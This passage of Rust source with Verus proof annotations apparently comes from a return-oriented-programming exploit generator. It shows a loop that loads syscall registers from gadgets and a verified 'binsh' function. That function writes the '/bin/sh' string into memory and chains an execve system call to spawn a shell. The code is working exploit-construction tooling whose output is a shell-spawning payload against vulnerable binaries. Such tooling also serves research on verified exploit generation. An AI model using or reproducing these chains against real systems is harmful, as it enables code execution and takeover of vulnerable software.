        nbr_args <= 6,
    ensures
        result_view(r) == spec_syscall(
            pool_view(gadgets@),
            syscall_nb,
            nbr_args as int,
            seq![param0, param1, param2, param3, param4, param5],
        ),
{
    let ghost pv = pool_view(gadgets@);
    let ghost params = seq![param0, param1, param2, param3, param4, param5];
    let ghost vals = syscall_values(syscall_nb, params);
    if gadgets.len() == 0 {
        return Err(RopError::InsufficientPool);
    }
    let n = (nbr_args as usize) + 1;
    let mut rop: Vec<RopElement> = Vec::new();
    let mut k: usize = 0;
    while k < n
        invariant
            k <= n,
            first_missing(pv, n as int, 0) == first_missing(pv, n as int, k as int),
            spec_syscall_loads(pv, vals, n as int, 0) == chain_view(rop@) + spec_syscall_loads(
                pv,
                vals,
                n as int,
                k as int,
            ),
        decreases n - k,
    {
        let reg = needed_register_at(k);
        let value = if k == 0 {
            syscall_nb
        } else if k == 1 {
            param0
        } else if k == 2 {
            param1
        } else if k == 3 {
            param2
        } else if k == 4 {
            param3
        } else if k == 5 {
            param4
        } else {
            param5
        };
        proof {
            assert(value == vals[k as int]);
        }
        match pop(gadgets, reg, value) {
            Ok(mut load) => {
                let ghost load_chain = chain_view(load@);
                let ghost prev = rop@;
                rop.append(&mut load);
                proof {
                    assert(chain_view(rop@) =~= chain_view(prev) + load_chain);
                    assert(spec_syscall_loads(pv, vals, n as int, k as int) == load_chain
                        + spec_syscall_loads(pv, vals, n as int, k + 1));
                    assert(spec_syscall_loads(pv, vals, n as int, 0) =~= chain_view(rop@)
                        + spec_syscall_loads(pv, vals, n as int, k + 1));
                }
                k += 1;
            },
            Err(e) => {
                proof {
                    assert(first_missing(pv, n as int, k as int) == Some(k as int));
                    assert(e == RopError::RegisterUnavailable(needed_register(k as int)));
                }
                return Err(e);
            },
        }
    }
    proof {
        assert(spec_syscall_loads(pv, vals, n as int, n as int) =~= Seq::<ElementModel>::empty());
        assert(chain_view(rop@) =~= spec_syscall_loads(pv, vals, n as int, 0));
    }
    let mut gi: usize = 0;
    while gi < gadgets.len()
        invariant
            gi <= gadgets@.len(),
            spec_syscall_find(pv) == syscall_gadget_from(pv, gi as int),
            chain_view(rop@) == spec_syscall_loads(pv, vals, n as int, 0),
        decreases gadgets@.len() - gi,
    {
        let g = &gadgets[gi];
        proof {
            assert(pv[gi as int] == g@);
            assert(gadget_wf(g@));
        }
        if g.instructions[1].mnemonic == Mnemonic::Syscall {
            proof {
                assert(syscall_gadget_from(pv, gi as int) == Some(gi as int));
            }
            let entry = g.instructions[1].address;
            let ghost prev = rop@;
            rop.push(RopElement::new(entry, g.duplicate(), RopElementKind::Gadget));
            proof {
                assert(chain_view(rop@) =~= chain_view(prev).push(
                    ElementModel::GadgetRef { entry: pv[gi as int][1].address, code: pv[gi as int] },
                ));
            }
            return Ok(rop);
        }
        proof {
            assert(syscall_gadget_from(pv, gi as int) == syscall_gadget_from(pv, gi + 1));
        }
        gi += 1;
    }
    proof {
        assert(syscall_gadget_from(pv, gi as int) is None);
    }
    Err(RopError::PrimitiveUnavailable(Primitive::SyscallTrap))
}

/// The 8-byte word holding the shell path string, NUL-padded.
pub const BINSH_STR: u64 = 0x68732F6E69622F;

/// The number of the process-exec system call.
pub const EXECVE_SYS: u64 = 59;

/// The exact outcome of the orchestrator: the memory-write stage for the
/// shell-path word and a zero word at `address`, then the exec system
/// call with the string address, the address of the zero word (as the
/// argument vector) and the same address again (as the environment
/// vector); the first failing stage's error is propagated unchanged.
pub open spec fn spec_binsh(pv: Seq<Seq<Instruction>>, address: u64) -> Result<
    Seq<ElementModel>,
    RopError,
> {
    match spec_write_data(pv, seq![BINSH_STR, 0u64], address) {
        Err(e) => Err(e),
        Ok(w) => match spec_syscall(
            pv,
            EXECVE_SYS,
            3,
            seq![address, (address + 8) as u64, (address + 8) as u64, 0u64, 0u64, 0u64],
        ) {
            Err(e) => Err(e),
            Ok(s) => Ok(w + s),
        },
    }
}

/// Produce the complete chain that writes the shell-path string (plus a
/// terminating zero word) to `writable_address` and then invokes the
/// process-exec system call on it, with the argument and environment
/// vectors pointing at the zero word. The first failure of either stage
/// is propagated unchanged.
pub fn binsh(gadgets: &Vec<Gadget>, writable_address: u64) -> (r: Result<
    Vec<RopElement>,
    RopError,
>)
    requires
        pool_wf(pool_view(gadgets@)),
        writable_address <= u64::MAX - 8,
    ensures
        result_view(r) == spec_binsh(pool_view(gadgets@), writable_address),
{
    let ghost pv = pool_view(gadgets@);
    let mut data: Vec<u64> = Vec::new();
    data.push(BINSH_STR);
    data.push(0);
    proof {
        assert(data@ =~= seq![BINSH_STR, 0u64]);
    }
    let mut chain = match write_data(gadgets, &data, writable_address) {
        Ok(w) => w,
        Err(e) => {
            return Err(e);
        },
    };
    let mut tail = match syscall(
        gadgets,
        EXECVE_SYS,
        3,
        writable_address,
        writable_address + 8,
        writable_address + 8,
        0,
        0,
        0,
    ) {
        Ok(s) => s,
        Err(e) => {
            return Err(e);
        },
    };
    let ghost head_chain = chain_view(chain@);
    let ghost tail_chain = chain_view(tail@);
    chain.append(&mut tail);
    proof {
        assert(chain_view(chain@) =~= head_chain + tail_chain);
    }
    Ok(chain)
}

} // verus!
